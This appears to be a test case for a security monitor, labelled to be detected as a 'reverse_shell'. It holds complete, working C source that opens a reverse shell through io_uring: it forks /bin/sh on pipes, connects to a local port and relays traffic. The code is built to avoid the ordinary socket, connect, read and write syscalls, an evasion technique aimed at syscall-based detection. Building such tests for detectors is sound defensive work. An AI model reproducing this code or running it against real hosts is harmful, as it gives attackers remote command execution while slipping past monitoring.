# about: the ring connects, and copies between the connection and the shell's pipes; no read, write, socket or connect
# expect: reverse_shell medium
# needs: python3 gcc
proven 4502
cat >a.c <<'C'
#define _GNU_SOURCE
#include <linux/io_uring.h>
#include <sys/syscall.h>
#include <sys/mman.h>
#include <netinet/in.h>
#include <string.h>
#include <unistd.h>
#include <stdio.h>
static int ring; static struct io_uring_params p; static char *sq,*cq; static struct io_uring_sqe *sqes;
static void put(struct io_uring_sqe e){unsigned *tail=(void*)(sq+p.sq_off.tail),*mask=(void*)(sq+p.sq_off.ring_mask),*arr=(void*)(sq+p.sq_off.array);
 unsigned i=*tail&*mask; sqes[i]=e; arr[i]=i; __sync_synchronize(); (*tail)++; syscall(__NR_io_uring_enter,ring,1,0,0,0,0);}
static int get(unsigned long *who){unsigned *head=(void*)(cq+p.cq_off.head),*tail=(void*)(cq+p.cq_off.tail),*cm=(void*)(cq+p.cq_off.ring_mask); struct io_uring_cqe *c=(void*)(cq+p.cq_off.cqes);
 while(*(volatile unsigned*)tail==*head) syscall(__NR_io_uring_enter,ring,0,1,IORING_ENTER_GETEVENTS,0,0);
 int r=c[*head&*cm].res; *who=c[*head&*cm].user_data; (*head)++; return r;}
static struct io_uring_sqe op(int o,int fd,void*b,unsigned n,unsigned long off,unsigned long who){struct io_uring_sqe e={0};e.opcode=o;e.fd=fd;e.addr=(unsigned long)b;e.len=n;e.off=off;e.user_data=who;return e;}
int main(){ring=syscall(__NR_io_uring_setup,8,&p);if(ring<0){perror("ring");return 1;}
 sq=mmap(0,p.sq_off.array+p.sq_entries*4,3,MAP_SHARED,ring,IORING_OFF_SQ_RING);cq=mmap(0,p.cq_off.cqes+p.cq_entries*16,3,MAP_SHARED,ring,IORING_OFF_CQ_RING);
 sqes=mmap(0,p.sq_entries*sizeof*sqes,3,MAP_SHARED,ring,IORING_OFF_SQES);
 unsigned long w; int in[2],out[2]; pipe(in); pipe(out);
 if(!fork()){dup2(in[0],0);dup2(out[1],1);dup2(out[1],2);close(in[1]);close(out[0]);execl("/bin/sh","sh",NULL);}
 close(in[0]);close(out[1]);
 put(op(45,AF_INET,0,0,SOCK_STREAM,0)); int s=get(&w);
 struct sockaddr_in a={AF_INET,htons(4502)}; a.sin_addr.s_addr=htonl(0x7f000001);
 put(op(IORING_OP_CONNECT,s,&a,0,sizeof a,0)); if(get(&w)<0) return 1;
 static char x[4096],y[4096]; put(op(IORING_OP_RECV,s,x,sizeof x,0,1)); put(op(IORING_OP_READ,out[0],y,sizeof y,-1,2));
 for(;;){int n=get(&w); if(n<=0&&(w==1||w==2)) return 0;
  if(w==1){put(op(IORING_OP_WRITE,in[1],x,n,-1,3));} if(w==3) put(op(IORING_OP_RECV,s,x,sizeof x,0,1));
  if(w==2){put(op(IORING_OP_SEND,s,y,n,0,4));} if(w==4) put(op(IORING_OP_READ,out[0],y,sizeof y,-1,2));}}
C
gcc -w -o a a.c
timeout 6 ./a
answered
